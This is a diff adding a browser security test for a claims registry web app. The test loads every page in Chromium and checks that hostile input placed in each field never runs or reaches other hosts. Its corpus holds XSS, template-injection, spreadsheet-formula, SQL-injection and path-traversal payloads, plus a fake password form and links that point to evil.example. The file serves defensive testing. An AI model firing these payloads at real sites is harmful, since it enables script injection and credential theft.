@@ -1,0 +1,228 @@
+"""Hostile words in every field, every page opened in Chromium: nothing runs, nothing leaves, the policy refuses nothing."""
+
+from __future__ import annotations
+
+import itertools
+import json
+from collections import Counter, defaultdict
+from contextlib import contextmanager
+
+import lxml.etree
+import pytest
+
+from claims.app import create_app
+from claims.core.source_address import address_problem
+from claims.extensions import db
+from claims.services.actors import CLI
+from claims.services.article_input import ArticleInput
+from claims.services.intake import receive_article
+from claims.services.organizations import get_or_create_organization
+from claims.services.speakers import ensure_speaker
+from tests import filled
+from tests.browser_fixtures import opened, sign_in, too_wide
+from tests.databases import app_settings
+from tests.desk import within
+from tests.live import Client, serve
+from tests.page_table import LOOKS
+from tests.pages import now
+
+pytestmark = pytest.mark.browser
+
+RUN = "window.__xss=(window.__xss||0)+1"
+CORPUS = [
+    f"<script>{RUN}</script>",
+    f"</script><script>{RUN}</script>",
+    f"</title><script>{RUN}</script>",
+    f"</textarea><script>{RUN}</script>",
+    f"</style><script>{RUN}</script>",
+    f"--><script>{RUN}</script><!--",
+    f"]]><script>{RUN}</script><![CDATA[",
+    f'"><script>{RUN}</script>',
+    f"'><script>{RUN}</script>",
+    f'" autofocus onfocus="{RUN}" x="',
+    f"' onmouseover='{RUN}' x='",
+    f"` onload=`{RUN}`",
+    f'<img src=x onerror="{RUN}">',
+    f"<img src=//evil.example/p.png onerror={RUN}>",
+    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
+    f"<svg><script>{RUN}</script></svg>",
+    f'<math><mtext><mglyph><style><img src=x onerror="{RUN}"></style></math>',
+    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
+    '<iframe src="https://evil.example/"></iframe>',
+    f'<details open ontoggle="{RUN}">x</details>',
+    f'<video><source onerror="{RUN}"></video>',
+    f'<body onload="{RUN}">',
+    f'<a href="javascript:{RUN}">a link</a>',
+    f"javascript:{RUN}",
+    f"JaVaScRiPt&colon;{RUN}",
+    f"data:text/html,<script>{RUN}</script>",
+    '<link rel="stylesheet" href="https://evil.example/a.css">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<base href="https://evil.example/">',
+    '<form action="https://evil.example/"><input name=password><button autofocus>Sign in</button></form>',
+    f'<div hx-get="https://evil.example/" hx-trigger="load" hx-on:load="{RUN}">x</div>',
+    f"<input hx-on:htmx:after-request='{RUN}' hx-post='/queue/batch' hx-trigger='load'>",
+    "{{ 7*7 }} {{ config.SECRET_KEY }} {% raw %} ${7*7} #{7*7}",
+    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "&lt;script&gt; &amp;amp; &#x3c;script&#x3e; %3Cscript%3E \\u003cscript\\u003e",
+    '=HYPERLINK("https://evil.example/","see")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "null undefined NaN None -1 0x0 1e309 '; DROP TABLE claims; -- ' OR '1'='1",
+    "\u2067\u05e2\u05d1\u05e8\u05d9\u05ea \u0627\u0644\u0639\u0631\u0628\u064a\u0629\u2069",
+    "\u200f(abc)\u200e \u202a123\u202c",
+    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031ealgo",
+    "\ufdfd \U0001f469\u200d\U0001f469\u200d\U0001f467",
+    "Donaudampfschifffahrtsgesellschaft" * 6,
+    "../../etc/passwd file:///etc/passwd //evil.example/x \\\\evil.example\\x",
+]
+ROUNDS = 3
+TOGETHER = 15
+SHORT = {"speaker", "alias", "title", "outlet", "author", "organization", "evidence title", "publisher", "locator"}
+"""Fields of one line, which take one of the corpus at a time and all in ``name_all``; the others take ``TOGETHER``."""
+
+
+class Hostile:
+    """Words of the corpus in turn, for each field its own turn; every field has had every one of them after ``ROUNDS``."""
+
+    def __init__(self) -> None:
+        self.turns: defaultdict[str, itertools.cycle[str]] = defaultdict(lambda: itertools.cycle(CORPUS))
+        self.said: defaultdict[str, Counter[str]] = defaultdict(Counter)
+        self.numbers = itertools.count(1)
+
+    def __call__(self, field: str, limit: int) -> str:
+        taken = [next(self.turns[field]) for _ in range(1 if field in SHORT else TOGETHER)]
+        self.said[field].update(taken)
+        number = next(self.numbers)
+        words = [*taken, f"({number})"] if field in ("claim", "headline", "organization", "asked") else taken
+        return " ".join(words)[:limit]
+
+
+@pytest.fixture(scope="module")
+def app(databases, tmp_path_factory):
+    """A registry of which every word is hostile."""
+    with databases.fresh("sqlite", migrated=True) as url:
+        made = create_app(app_settings(url, tmp_path_factory.mktemp("hostile")))
+        yield made
+        with made.app_context():
+            db.session.remove()
+            db.engine.dispose()
+
+
+@pytest.fixture(scope="module")
+def rounds(app):
+    """The ids of each round."""
+    say = Hostile()
+
+    def make(session):
+        people = filled.make_people(session, now())
+        made = [filled.fill_round(session, people, say, now()) for _ in range(ROUNDS)]
+        name_all(session)
+        filled.finish(session, now())
+        return made
+
+    ids = within(app, make)
+    untried = {field: set(CORPUS) - set(said) for field, said in say.said.items() if field not in SHORT}
+    assert not {field: words for field, words in untried.items() if words}
+    return ids
+
+
+def name_all(session):
+    """Speakers, organizations, outlets and authors of every name of the corpus."""
+    for words in CORPUS:
+        ensure_speaker(session, words, now=now())
+        get_or_create_organization(session, words, now=now())
+        article = ArticleInput(headline=words, body="Rain fell.", outlet=words, authors=(words,), published_at=now())
+        receive_article(session, article, actor=CLI, now=now())
+
+
+@pytest.fixture(scope="module")
+def base(app):
+    with serve(app) as address:
+        yield address
+
+
+@contextmanager
+def watched(browser, base, who):
+    """A window that notes whatever must not happen: dialogs, other hosts, what the policy had to refuse."""
+    with opened(browser, f"{base}/") as page:
+        if who:
+            sign_in(page, base, who)
+        page.happened = []
+        page.on("dialog", lambda dialog: (page.happened.append("a dialog"), dialog.dismiss()))
+        page.on("request", lambda sent: sent.url.startswith((base, "data:")) or page.happened.append(sent.url))
+        page.on("popup", lambda other: page.happened.append(f"a window: {other.url}"))
+        yield page
+
+
+@pytest.mark.parametrize("who", ["", "anna", "cora"], ids=lambda who: who or "anybody")
+def test_nothing_runs_on_any_page(browser, base, rounds, who):
+    with watched(browser, base, who) as page:
+        for ids in rounds:
+            paths = {look.path(ids) for look in LOOKS if look.who == who and look.status == 200}
+            if ids is not rounds[0]:  # what is no page of one thing is the same each time
+                paths = {look.path(ids) for look in LOOKS if look.who == who and "{" in look.address}
+            for path in sorted(paths):
+                answer = page.goto(base + path)
+                assert answer.status == 200, path
+                page.evaluate("for (const fold of document.querySelectorAll('main details')) fold.open = true")
+                assert page.evaluate("window.__xss") is None, path
+                assert page.evaluate(FOREIGN) == [], path
+                assert (page.happened, page.complaints) == ([], []), path
+
+
+FOREIGN = """() => [...document.querySelectorAll(
+    "script, iframe, object, embed, base, meta[http-equiv], form, a[href], img")]
+  .filter(node => {
+    const said = ["src", "action", "href"].map(name => node.getAttribute(name)).find(value => value);
+    const to = said ? new URL(said, location.href) : null;
+    if (node.matches("a")) return !["http:", "https:"].includes(to.protocol);
+    if (node.matches("script")) return !to || to.host !== location.host;
+    if (node.matches("form, img")) return to && to.host !== location.host;
+    return true;
+  }).map(node => node.outerHTML.slice(0, 200))
+  .concat([...document.querySelectorAll("*")].filter(node => [...node.attributes].some(
+    ({name, value}) => name.startsWith("on") || (name.startsWith("hx-") && value.includes("evil"))))
+    .map(node => node.outerHTML.slice(0, 200)))"""
+"""Elements that no page of ours has: other people's scripts, frames, handlers, forms to elsewhere, links that run."""
+
+
+def test_nothing_makes_a_page_scroll_sideways(browser, base, rounds):
+    with watched(browser, base, "anna") as page:
+        page.set_viewport_size({"width": 320, "height": 900})
+        for look in LOOKS:
+            if look.who == "anna" and look.status == 200 and "{" in look.address:
+                page.goto(base + look.path(rounds[-2]))
+                assert too_wide(page) == [], look.address
+
+
+def test_feeds_and_answers_of_the_api_parse(base, rounds):
+    anyone = Client(base)
+    atom = lxml.etree.fromstring(anyone.get("/corrections/feed.atom").data)
+    assert len(atom.findall("{http://www.w3.org/2005/Atom}entry")) == 2 * ROUNDS
+    assert all(element.tag.startswith("{http://www.w3.org/2005/Atom}") for element in atom.iter(lxml.etree.Element))
+    assert len(json.loads(anyone.get("/corrections/feed.json").data)["items"]) == 2 * ROUNDS
+    for path in ("/claims", "/claims/{true_claim}", "/corrections", "/speakers/{speaker}", "/speakers"):
+        answer = anyone.get("/api/v1" + path.format_map(rounds[0]))
+        assert answer.status == 200, path
+        assert answer.headers["Content-Type"].startswith("application/"), path
+        assert answer.headers["X-Content-Type-Options"] == "nosniff"
+        json.loads(answer.data)
+    for number in range(5):
+        json.loads(anyone.get(f"/log/{number}.json").data)
+
+
+@pytest.mark.parametrize(
+    "address",
+    [
+        f"javascript:{RUN}",
+        f" JavaScript:{RUN}",
+        "java\tscript:x",
+        "data:text/html,x",
+        "vbscript:x",
+        "file:///etc/passwd",
+        "//evil.example/x",
+    ],
+)
+def test_addresses_that_run_are_refused(address):
+    assert address_problem(address) is not None
